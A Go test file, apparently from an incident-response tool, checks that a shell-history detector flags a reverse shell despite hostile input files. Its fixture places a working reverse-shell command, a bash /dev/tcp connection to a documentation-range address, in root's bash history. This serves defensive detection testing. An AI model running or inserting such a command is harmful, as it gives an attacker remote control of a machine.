package history

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of every file the check parses leave
// a reverse shell in root's history reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- root/.bash_history --\nid\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
		},
		Trace: []enginetest.Want{{Rule: ruleReverseShell, Subject: "/root/.bash_history", Severity: model.Critical, Indicators: []string{"reverse-shell.dev-tcp"}}},
		Files: []string{"/root/.bash_history", "/root/.zsh_history", "/root/.mysql_history", "/root/.python_history", "/root/.psql_history",
			"/root/.rediscli_history", "/root/.local/share/fish/fish_history", "/etc/passwd"},
		Needs: []string{"/root/.bash_history"},
	}.Run(t)
}
